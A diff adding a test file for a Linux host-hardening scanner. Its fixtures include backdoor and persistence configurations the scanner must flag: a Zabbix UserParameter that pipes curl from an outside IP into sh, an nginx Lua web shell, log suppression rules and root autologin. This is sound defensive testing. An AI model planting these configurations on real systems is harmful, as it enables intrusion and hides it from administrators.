@@ -1,0 +1,122 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { consoleLogins } from '../../source/checks/console-logins.ts';
+import { daemonSettings } from '../../source/checks/daemon-settings.ts';
+import { grantedPowers } from '../../source/checks/granted-powers.ts';
+import { laidOverFolders } from '../../source/checks/laid-over-folders.ts';
+import { localDiversions } from '../../source/checks/local-diversions.ts';
+import { openServices } from '../../source/checks/open-services.ts';
+import { packageSources } from '../../source/checks/package-sources.ts';
+import { silencedGuards } from '../../source/checks/silenced-guards.ts';
+import { settingCommands } from '../../source/parsers/daemon-settings.ts';
+import * as agents from '../../source/parsers/agent-settings.ts';
+import * as rules from '../../source/parsers/statement-rules.ts';
+import { debian } from '../support/debian.ts';
+import { memoryHost, type Machine } from '../support/memory-host.ts';
+import { run } from '../support/sweep-host.ts';
+
+const all = [openServices, silencedGuards, consoleLogins, grantedPowers, laidOverFolders, localDiversions, daemonSettings, packageSources];
+function loud(machine: Machine): readonly string[] {
+	const unit = '[Unit]\nDescription=x\n';
+	const host = memoryHost(debian(['/usr/bin/logger'], { '/usr/lib/systemd/system/rsyslog.service': unit, '/usr/lib/systemd/system/apparmor.service': unit, '/usr/lib/systemd/system/apt-daily.timer': unit, ...machine }));
+	return all.flatMap(check => run(check, host).findings).filter(({ severity }) => !/^(?:info|low)$/.test(severity)).map(({ severity, subject }) => `${severity} ${subject.kind === 'file' ? subject.path : subject.name}`);
+}
+
+describe('services left open', () => {
+	test.each([
+		['/etc/docker/daemon.json', '{"hosts": ["tcp://0.0.0.0:2375"]}\n', 'high'],
+		['/etc/mysql/conf.d/z.cnf', '[mysqld]\nskip-grant-tables\n', 'high'],
+		['/etc/postgresql/15/main/pg_hba.conf', 'host all all 0.0.0.0/0 trust\n', 'high'],
+		['/etc/redis/redis.conf', 'bind 0.0.0.0\nprotected-mode no\n', 'medium'],
+		['/etc/rsyncd.conf', '[all]\npath = /\nread only = no\n', 'high'],
+		['/etc/nginx/conf.d/x.conf', 'location /s { content_by_lua_block { io.popen(ngx.var.arg_c) } }\n', 'critical'],
+		['/etc/X0.hosts', '+\n', 'medium'],
+		['/etc/php/8.2/fpm/conf.d/99.ini', 'auto_prepend_file = /dev/shm/.p\n', 'high'],
+		['/etc/zabbix/zabbix_agentd.d/x.conf', 'UserParameter=x,sh -c "curl -s 203.0.113.9/k|sh"\n', 'high'],
+		['/etc/audit/plugins.d/x.conf', 'path = /var/tmp/.a\n', 'high'],
+	])('%s', (path, text, severity) => {
+		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
+	});
+});
+
+describe('logs and guards silenced', () => {
+	test.each([
+		['/etc/systemd/journald.conf.d/z.conf', '[Journal]\nStorage=none\n', 'high'],
+		['/etc/rsyslog.d/00-a.conf', '*.* stop\n', 'high'],
+		['/etc/rsyslog.d/00-b.conf', 'auth,authpriv.* ~\n', 'high'],
+		['/etc/rsyslog.d/00-c.conf', 'if $msg contains "203.0.113.9" then stop\n', 'medium'],
+		['/etc/audit/rules.d/9.rules', '-a never,task\n', 'medium'],
+		['/etc/systemd/system/rsyslog.service', '', 'medium'],
+	])('%s', (path, text, severity) => {
+		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
+	});
+});
+
+describe('ways in and powers', () => {
+	test.each([
+		['/etc/systemd/system/getty@tty2.service.d/a.conf', '[Service]\nExecStart=-/sbin/agetty --autologin root %I\n', 'high'],
+		['/etc/default/grub.d/x.cfg', 'GRUB_CMDLINE_LINUX="systemd.debug-shell=1"\n', 'high'],
+		['/etc/gdm3/daemon.conf', '[daemon]\nAutomaticLogin=root\n', 'high'],
+		['/var/lib/systemd/linger/www-data', '', 'medium'],
+		['/etc/cron.allow', 'root\nwww-data\n', 'medium'],
+		['/etc/subuid', 'www-data:0:65536\n', 'high'],
+		['/etc/security/capability.conf', 'cap_setuid,cap_dac_override ada\n', 'high'],
+		['/etc/security/group.conf', '*;*;*;Al0000-2400;sudo\n', 'medium'],
+		['/etc/fstab', '/var/tmp/.b /usr/sbin none bind 0 0\n', 'high'],
+		['/etc/systemd/system/usr-sbin.mount', '[Mount]\nWhat=/dev/shm/b\nWhere=/usr/sbin\nOptions=bind\n', 'high'],
+		['/var/lib/extensions/net.raw', 'x', 'medium'],
+		['/var/lib/dpkg/diversions', '/usr/bin/ss\n/usr/bin/ss.real\n:\n', 'medium'],
+		['/var/lib/dpkg/statoverride', 'root root 4755 /usr/bin/find\n', 'high'],
+		['/etc/apt/apt.conf.d/02p', 'Acquire::http::Proxy "http://203.0.113.9:8080/";\n', 'medium'],
+	])('%s', (path, text, severity) => {
+		expect(loud({ [path]: text })).toEqual([`${severity} ${path}`]);
+	});
+
+	test('the debug shell, linked to where a target wants it', () => {
+		expect(loud({ '/etc/systemd/system/sysinit.target.wants/debug-shell.service': { link: '/lib/systemd/system/debug-shell.service' } })).toEqual(['high /etc/systemd/system/sysinit.target.wants/debug-shell.service']);
+	});
+});
+
+test('what administrators set is ordinary', () => {
+	expect(
+		loud({
+			'/etc/docker/daemon.json': '{"hosts": ["unix:///run/docker.sock", "tcp://0.0.0.0:2376"], "tlsverify": true}\n',
+			'/etc/mysql/conf.d/own.cnf': '[mysqld]\nbind-address = 0.0.0.0\nplugin-load-add = auth_socket.so\n',
+			'/etc/postgresql/15/main/pg_hba.conf': 'local all postgres peer\nhost all all 10.0.0.0/8 scram-sha-256\nhost all all 0.0.0.0/0 scram-sha-256\n',
+			'/etc/redis/redis.conf': 'bind 127.0.0.1 -::1\nprotected-mode yes\ndir /var/lib/redis\n',
+			'/etc/rsyncd.conf': 'uid = nobody\n[pub]\npath = /srv/pub\nread only = yes\n',
+			'/etc/samba/smb.conf': '[homes]\n\tread only = no\n[pub]\n\tpath = /srv/pub\n\tguest ok = yes\n',
+			'/etc/nginx/conf.d/own.conf': 'server {\n\troot /var/www/html;\n\tlocation / { try_files $uri =404; }\n}\n',
+			'/etc/systemd/journald.conf.d/own.conf': '[Journal]\nStorage=persistent\nSystemMaxUse=1G\nMaxLevelStore=info\n',
+			'/etc/rsyslog.d/20-own.conf': ':msg, contains, "pam_unix(cron:session)" stop\nif $programname == \'snmpd\' then stop\n:programname, isequal, "app" /var/log/app.log\n& stop\n*.*;auth,authpriv.none -/var/log/syslog\n',
+			'/etc/audit/rules.d/own.rules': '-D\n-b 8192\n-w /etc/passwd -p wa -k identity\n-a never,exit -F arch=b64 -S adjtimex -F auid=unset -F uid=_chrony\n-e 2\n',
+			'/etc/systemd/system/apparmor.service': { link: '/dev/null' },
+			'/etc/systemd/system/apt-daily.timer': { link: '/dev/null' },
+			'/etc/systemd/system/getty@tty1.service.d/a.conf': '[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin pi --noclear %I $TERM\n',
+			'/etc/default/grub': 'GRUB_CMDLINE_LINUX_DEFAULT="quiet splash init=/usr/lib/systemd/systemd"\n',
+			'/boot/grub/grub.cfg': 'linux /vmlinuz root=UUID=x ro single\n',
+			'/var/lib/systemd/linger/ann': '',
+			'/etc/cron.allow': 'root\nann\n',
+			'/etc/subuid': 'ann:100000:65536\n_build:165536:65536\n',
+			'/etc/security/capability.conf': 'cap_net_raw ann\nnone *\n',
+			'/etc/security/group.conf': '# xsh; tty* ;us;Al0000-2400;floppy\n*;tty*;*;Al0000-2400;audio,video\n',
+			'/etc/fstab': 'UUID=x / ext4 errors=remount-ro 0 1\ntmpfs /tmp tmpfs nosuid 0 0\n/srv/data/www /var/www none bind 0 0\n/dev/vg/usr /usr ext4 defaults 0 2\n//nas/share /mnt/nas cifs credentials=/root/.smb 0 0\n/home/opt /usr/local none bind 0 0\n',
+			'/var/lib/dpkg/diversions': '/usr/share/man/man1/sh.1.gz\n/usr/share/man/man1/sh.distrib.1.gz\ndash\n/sbin/initctl\n/sbin/initctl.distrib\n:\n',
+			'/var/lib/dpkg/statoverride': 'root messagebus 4754 /usr/lib/dbus-1.0/dbus-daemon-launch-helper\nroot crontab 2755 /usr/bin/crontab\n',
+			'/etc/apt/apt.conf.d/01proxy': 'Acquire::http::Proxy "http://apt-cache.example.org:3142";\nAcquire::http::Proxy::ppa.example "http://10.0.0.3:3142";\n',
+			'/etc/zabbix/zabbix_agentd.d/own.conf': 'UserParameter=disk.free[*],df -P $1 | awk \'{print $4}\'\n',
+			'/etc/nagios/nrpe.cfg': 'command[check_load]=/usr/lib/nagios/plugins/check_load -w 5\n',
+			'/etc/smartd.conf': 'DEVICESCAN -d removable -n standby -m root -M exec /usr/share/smartmontools/smartd-runner\n',
+			'/etc/login.defs': 'UID_MIN 1000\n#FAKE_SHELL /bin/fakeshell\n',
+		}),
+	).toEqual([]);
+});
+
+test('random text is taken', () => {
+	const tables = Object.values(rules).filter(value => Array.isArray(value));
+	fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), bytes => void tables.map(table => rules.statementsOf(bytes, table))), { numRuns: 50 });
+	fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'*.,:"\' auth~if$msg1.=/stop\n{;') }), text => void tables.map(table => rules.statementsOf(Buffer.from(text), table))), { numRuns: 50 });
+	fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), bytes => void Object.values(agents).map(forms => settingCommands(bytes, forms))), { numRuns: 50 });
+	const hard = Buffer.from(`if ${'"1.'.repeat(1300)}\n*.* ${'auth,'.repeat(700)}\n${'a,'.repeat(2000)}\n`);
+	for (const table of tables) expect(rules.statementsOf(hard, table)).toEqual([]);
+});
